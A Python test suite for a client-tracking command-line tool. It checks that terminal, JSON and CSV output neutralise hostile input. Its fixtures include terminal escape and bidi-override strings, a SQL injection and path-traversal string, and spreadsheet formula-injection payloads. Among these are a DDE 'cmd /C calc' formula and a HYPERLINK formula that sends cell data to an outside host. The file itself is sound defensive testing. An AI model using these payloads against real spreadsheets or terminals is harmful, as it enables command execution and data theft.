"""Whatever a client's text holds, the screen shows it harmlessly and programs get it exactly."""

import csv
import io
import json
import os
import signal
import subprocess
import sys
from contextlib import closing
from dataclasses import dataclass
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pexpect  # type: ignore[import-untyped]
import pytest
from hypothesis import given as holds_for
from hypothesis import strategies as st
from rich.cells import cell_len

from clienttrack import screen
from clienttrack.screen import Screen, cell, guarded, one_line, plain_data, shortened, table, visible
from clienttrack.vocabulary import TouchKind
from tests.conftest import TODAY, Given, Run

HOSTILE = [
    "[/b] [red]not red[/red] [link=file:///etc/passwd]x[/link]",
    "\x1b[2J\x1b]0;title\x07\x1b[31mred",
    "\x9b31m\x9d0;title\x9c",
    "line one\nline two\r\nline three\rcovered",
    "\u202egnp.exe\u202c \u2066isolated\u2069 \u200f\u200e\u061c",
    "\u2028separator\u2029",
    "tab\tbell\x07back\x08null-like\x00"[:-1],
    "../../etc/passwd; DROP TABLE client; --",
    ":smile: {{ 1 + 1 }} %s {0} \\n",
    "华为\ufeff技术",
]
FORBIDDEN = {chr(n) for n in (*range(0x20), *range(0x7F, 0xA0), 0x61C, 0x200E, 0x200F, 0x2028, 0x2029, 0xFEFF)} | {
    chr(n) for n in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))
}
anything = st.text(st.characters(exclude_categories=[]))


@dataclass(frozen=True, slots=True)
class Line:
    """A made-up line of an answer."""

    ref: str
    text: str | None
    phone: str
    seen_on: date
    kind: TouchKind
    amount: Decimal
    tags: tuple[str, ...]


def _line(text: str | None) -> Line:
    return Line("@acme", text, "+44 20 7946 0958", TODAY, TouchKind.CALL, Decimal("1200.50"), ("a", "b"))


# Text


@holds_for(anything)
def test_one_line_holds_no_character_that_acts(text: str) -> None:
    line = one_line(text)
    assert not FORBIDDEN & set(line)
    line.encode()
    assert one_line(line) == line


@holds_for(anything)
def test_visible_text_keeps_its_lines_and_nothing_else_that_acts(text: str) -> None:
    assert not (FORBIDDEN - {"\n"}) & set(visible(text))


@holds_for(st.text(st.characters(categories=["L", "N", "P", "S"], exclude_characters="\ufeff")))
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert one_line(text) == visible(text) == text


@holds_for(anything, st.integers(1, 50))
def test_shortened_text_says_that_it_goes_on(text: str, length: int) -> None:
    short = shortened(text, length)
    assert len(short) <= length
    assert "\n" not in short
    if len(one_line(text)) > length:
        assert short.endswith("…")


def test_a_long_text_costs_no_more_than_what_is_shown() -> None:
    assert shortened("x" * 10_000_000, 10) == "xxxxxxxxx…"


@pytest.mark.parametrize("text", HOSTILE)
def test_a_table_shows_hostile_cells_as_they_are_written(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    drawn = table("Name", "Note")
    drawn.add_row(cell("Acme"), cell(text))
    drawn.add_row(cell(None), cell(7))
    Screen(color=True).draw(drawn)
    out = capsys.readouterr().out
    assert len(out.splitlines()) == 3
    assert not FORBIDDEN & set(out.replace("\n", ""))
    assert one_line(text).rstrip() in out


def test_a_piped_table_is_never_folded(capsys: pytest.CaptureFixture[str]) -> None:
    drawn = table("Note")
    drawn.add_row(cell("word " * 2000))
    Screen(color=True).draw(drawn)
    assert len(capsys.readouterr().out.splitlines()) == 2


def test_wide_characters_line_up(capsys: pytest.CaptureFixture[str]) -> None:
    drawn = table("Name", "Tier")
    drawn.add_row(cell("华为技术"), cell("core"))
    drawn.add_row(cell("Acme Ltd"), cell("core"))
    Screen(color=True).draw(drawn)
    _, chinese, latin = capsys.readouterr().out.splitlines()
    assert chinese.index("core") + 4 == latin.index("core")


@pytest.mark.parametrize("text", HOSTILE)
def test_notices_and_plain_answers_are_harmless(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    screen = Screen(color=True)
    screen.notice(text)
    screen.draw(text)
    captured = capsys.readouterr()
    assert not FORBIDDEN & set((captured.err + captured.out).replace("\n", ""))


@pytest.mark.parametrize("text", HOSTILE)
def test_the_program_shows_hostile_names_and_notes_harmlessly(text: str, given: Given, run: Run) -> None:
    acme = given.client(text, handle="acme", tier="core", last_touch=TODAY.replace(month=1))
    given.task(acme, text, due_on=TODAY)
    ran = run("due")
    assert not FORBIDDEN & set(ran.out.replace("\n", ""))
    assert run("due", "--json").data["lines"][0]["client_name"] == text


# JSON


@holds_for(anything)
def test_json_gives_every_text_back_exactly_and_sends_nothing_that_acts(text: str) -> None:
    out = io.StringIO()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sys, "stdout", out)
        Screen(color=True).json(TODAY, {"text": text})
    written = out.getvalue()
    assert json.loads(written) == {"version": 1, "today": "2026-11-20", "data": {"text": text}}
    assert written.endswith("\n")
    assert not FORBIDDEN & set(written[:-1])


def test_json_is_exact_on_a_stream_that_knows_no_unicode() -> None:
    raw = io.BytesIO()
    out = io.TextIOWrapper(raw, encoding="ascii")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sys, "stdout", out)
        Screen(color=True).json(TODAY, "é 华为 🎉")
    assert json.loads(raw.getvalue())["data"] == "é 华为 🎉"


def test_json_knows_days_enums_amounts_and_nothing() -> None:
    assert plain_data([_line(None)]) == [
        {
            "ref": "@acme",
            "text": None,
            "phone": "+44 20 7946 0958",
            "seen_on": "2026-11-20",
            "kind": "call",
            "amount": "1200.50",
            "tags": ["a", "b"],
        }
    ]


# CSV


def _csv(text: str | None, columns: tuple[str, ...] = ("text", "phone", "seen_on", "kind", "amount", "tags")) -> str:
    out = io.StringIO(newline="")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sys, "stdout", out)
        Screen(color=True).csv([_line(text)], columns)
    return out.getvalue()


@pytest.mark.parametrize("start", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_cell_that_a_spreadsheet_would_run_is_guarded(start: str) -> None:
    assert guarded("text", start) == f"'{start}"
    assert next(csv.reader(io.StringIO(_csv(start), newline="")))[0] == "text"
    assert list(csv.reader(io.StringIO(_csv(start), newline="")))[1][0] == f"'{start}"


@pytest.mark.parametrize("column", ["phone", "phones", "reach", "ref"])
@pytest.mark.parametrize(
    "cell", ['=HYPERLINK("http://x.example?"&A1)', "+cmd|' /C calc'!A0", "@SUM(A1)", "-1+A1", "\t=1"]
)
def test_a_formula_is_guarded_where_a_phone_or_a_reference_is_expected(column: str, cell: str) -> None:
    assert guarded(column, cell) == f"'{cell}"


def test_phones_numbers_and_references_are_not_guarded() -> None:
    for phone in ("+44 20", "+44 (0)20/7946-09.58 x12", "+1 212 ext. 4"):
        for column in ("phone", "phones", "reach"):
            assert guarded(column, phone) == phone
    assert guarded("phones", "+44 20, +49 30") == "+44 20, +49 30"
    assert guarded("text", "+44 20") == "'+44 20"
    assert guarded("ref", "@acme") == "@acme"
    assert guarded("ref", "n@acme") == "n@acme"
    assert guarded("amount", -5) == -5


@holds_for(st.text())
def test_csv_gives_back_what_it_was_given(text: str) -> None:
    header, row = csv.reader(io.StringIO(_csv(text), newline=""))
    assert header == ["text", "phone", "seen_on", "kind", "amount", "tags"]
    assert row[0] in {text, f"'{text}"}
    assert row[1:] == ["+44 20 7946 0958", "2026-11-20", "call", "1200.50", "a, b"]


def test_csv_ends_its_lines_as_the_standard_says_and_leaves_nothing_for_null() -> None:
    assert _csv(None, ("text", "kind")) == "text,kind\r\n,call\r\n"


# Streams


def _many(given: Given) -> None:
    with given.change() as change:
        for number in range(3000):
            change.add("client", handle=f"c{number}", name=f"Client {number} " + "x" * 60, name_key=f"c {number}",
                       kind="person", added_on=date(2026, 1, 1), tier_id=1)  # fmt: skip


@pytest.mark.parametrize("form", ["", "--json", "--csv", "--ids", "--all"])
def test_a_closed_pipe_is_no_error_and_quiet(form: str, given: Given) -> None:
    _many(given)
    command = f"{sys.executable} -m clienttrack due {form}"
    script = f"set -o pipefail; {command} | head -1 | cut -c1-20"
    ended = subprocess.run(["bash", "-c", script], capture_output=True, text=True, check=False)
    assert (ended.returncode, ended.stderr) == (0, "")
    assert len(ended.stdout.splitlines()) == 1


@pytest.mark.parametrize("words", [("--help",), ("due", "--help"), ("due",), ("--version",), ("duee",)])
def test_a_pipe_that_nobody_reads_is_no_error(words: tuple[str, ...], given: Given) -> None:
    given.client("Acme", tier="core")
    reading, writing = os.pipe()
    os.close(reading)
    with os.fdopen(writing, "wb") as nobody:
        ended = subprocess.run(
            [sys.executable, "-m", "clienttrack", *words], stdout=nobody, stderr=subprocess.PIPE, check=False
        )
    assert b"Traceback" not in ended.stderr
    assert b"bug" not in ended.stderr
    assert ended.returncode == (2 if words == ("duee",) else 0)


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="there is no /dev/full here")
@pytest.mark.parametrize("form", ["--json", "--all"])
def test_an_answer_that_finds_no_room_is_said(form: str, given: Given) -> None:
    given.client("Acme", tier="core")
    with Path("/dev/full").open("wb") as full:
        ended = subprocess.run(
            [sys.executable, "-m", "clienttrack", "due", form],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            check=False,
        )
    assert ended.returncode == 7
    assert ended.stderr.startswith("Error: The answer could not be written")
    assert len(ended.stderr.splitlines()) == 1


def test_a_process_without_streams_works(given: Given) -> None:
    given.client("Acme", tier="core")
    ended = subprocess.run(
        ["bash", "-c", f"{sys.executable} -m clienttrack due <&- >&- 2>&-"], capture_output=True, check=False
    )
    assert ended.returncode == 0


# The terminal


def _terminal(*words: str, columns: int = 80, **environment: str) -> Any:
    return pexpect.spawn(
        sys.executable,
        ["-m", "clienttrack", *words],
        encoding="utf-8",
        timeout=20,
        dimensions=(24, columns),
        env={**os.environ, "TERM": "xterm-256color", **environment},
    )


def _all_of(child: Any) -> tuple[str, int]:
    with closing(child):
        out = str(child.read())
    return out, int(child.exitstatus)


def test_a_terminal_gets_colours_unless_told_otherwise(given: Given) -> None:
    given.client("Acme", tier="core", last_touch=date(2026, 1, 1))
    assert "\x1b[" in _all_of(_terminal("due"))[0]
    for plain in (_terminal("--no-color", "due"), _terminal("due", NO_COLOR="1")):
        assert "\x1b[3" not in _all_of(plain)[0]


CLIENT = "tidewater-reinsurance"


@pytest.mark.parametrize("columns", [60, 80, 100])
@pytest.mark.parametrize("words", ["client list", "contact list", "touch list", "task list", "find tidewater", "due"])
def test_what_names_a_record_or_reaches_somebody_is_never_broken(words: str, columns: int, given: Given) -> None:
    client = given.client(
        "Tidewater Reinsurance Holdings International 青禾茶业", handle=CLIENT, tier="core", last_touch=date(2026, 1, 1)
    )
    given.contact(client, "Dr. Wilhelmine Hohenlohe", email="w.hohenlohe@tidewater.example", role="director " * 9)
    given.contact(client, "Jo Tidewater", phone="+44 20 7946 0206", role="manager " * 9)
    given.task(client, "Tidewater offer " * 9, due_on=TODAY)
    out, code = _all_of(_terminal(*words.split(), columns=columns, NO_COLOR="1"))
    assert code == 0
    lines = out.split("\r\n")
    assert max(map(len, lines)) <= columns
    assert CLIENT in out
    for whole in ("w.hohenlohe@tidewater.example", "+44 20 7946 0206"):
        part = whole[:12]
        assert part not in out or whole in out


@pytest.mark.parametrize("columns", [60, 160])
def test_help_is_as_wide_as_the_terminal_and_cuts_nothing(columns: int) -> None:
    for words in ((), ("book",), ("report",)):
        out = " ".join(_all_of(_terminal(*words, "--help", columns=columns))[0].split())
        assert "..." not in out.replace("[ARGS]...", "")
    assert "Show where the book, its backups, the settings and your templates lie." in " ".join(
        _all_of(_terminal("book", "--help", columns=columns))[0].split()
    )
    widest = max(len(line) for line in _all_of(_terminal("--help", columns=columns))[0].split("\r\n"))
    assert widest <= columns
    assert (widest > 80) == (columns > 80)


def test_a_long_error_breaks_at_words(given: Given) -> None:
    out, code = _all_of(_terminal("log", "nobody-of-that-name", "x", columns=50))
    assert code == 3
    assert max(map(len, out.split("\r\n"))) <= 50
    assert "nobody-of-that-name" in out


@pytest.mark.parametrize("form", ["--json", "--csv"])
def test_a_terminal_gets_no_control_characters_from_any_form(form: str, given: Given) -> None:
    acme = given.client("Acme\x1b[2J\x9b31m\u202e", handle="acme", tier="core", last_touch=date(2026, 1, 1))
    given.task(acme, "\x1b]0;title\x07", due_on=TODAY)
    out, code = _all_of(_terminal("due", form))
    assert code == 0
    assert not (FORBIDDEN - {"\r", "\n"}) & set(out)


def test_ctrl_c_ends_with_130_and_writes_nothing(given: Given) -> None:
    import sqlite3

    given.client("Acme")
    with closing(sqlite3.connect(given.path, isolation_level=None)) as other:
        other.execute("BEGIN IMMEDIATE")
        child = _terminal("log", "acme", "talked")
        child.expect("waiting")
        child.kill(signal.SIGINT)
        out, code = _all_of(child)
    assert code == 130
    assert "Traceback" not in out
    assert given.value("SELECT count(*) FROM touchpoint") == 0


LEAVES = st.none() | st.booleans() | st.integers() | st.text() | st.dates() | st.floats(allow_nan=False)


@holds_for(st.recursive(LEAVES, lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner), max_leaves=30))
def test_json_in_pieces_is_json_as_a_whole(value: object) -> None:
    def written(part: object) -> str:
        return json.dumps(part, default=screen._for_json)

    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(screen, "LINES_AT_ONCE", 2)
        assert "".join(screen._pieces(value, written)) == written(value)


def test_a_long_answer_is_written_line_by_line(capsys: pytest.CaptureFixture[str]) -> None:
    @dataclass(frozen=True)
    class Found:
        lines: tuple[str, ...]
        count: int

    lines = tuple(f"line {number} \x1b \u202e é" for number in range(2500))
    Screen(color=False).json(date(2026, 11, 20), Found(lines, 2500))
    out = capsys.readouterr().out
    assert json.loads(out)["data"] == {"lines": list(lines), "count": 2500}
    assert out.endswith("}\n")
    assert "\x1b" not in out
    assert "\u202e" not in out


@pytest.mark.parametrize("columns", [70, 80, 100, 140])
def test_a_pair_that_may_be_one_shows_both_names_and_handles(columns: int, given: Given) -> None:
    for name, handle in (("青松示例科技有限公司", "qingsong"), ("Tidewater Reinsurance Holdings", CLIENT)):
        for number in (1, 2):
            client = given.client(name, handle=f"{handle}-{number}")
            given.contact(client, "Jo", email="jo@x.example")
    out, code = _all_of(_terminal("client", "duplicates", columns=columns, NO_COLOR="1"))
    assert code == 0
    assert "left out" not in out
    assert max(map(cell_len, out.split("\r\n"))) <= columns
    assert all(words in out for words in ("青松示例", "qingsong-1", "qingsong-2", f"{CLIENT}-1", "Reinsurance"))


def test_batches_on_a_narrow_screen_keep_what_they_did(given: Given, run: Run, tmp_path: Path) -> None:
    path = tmp_path / "hubspot-crm-exports-all-contacts-of-the-book-2026-11-20.csv"
    path.write_text("client\nAcme\n青松\n")
    run("import", str(path))
    out, _ = _all_of(_terminal("batch", "list", columns=64, NO_COLOR="1"))
    header, line, *_ = out.split("\r\n")
    assert header.split() == ["BATCH", "DAY", "FILES", "CREATED", "CHANGED", "STATE"]
    assert "hubspot-crm…2026-11-20.csv"[-12:] in line
    assert "1 column left out: ROWS" in out


def test_a_choice_left_out_is_told_on_one_line(run: Run) -> None:
    told = run("export", exit_code=2).err
    assert (
        "Choose from: clients, contacts, touchpoints, tasks, payments, meetings, answers, needs, remarks, all. Try"
        in told
    )
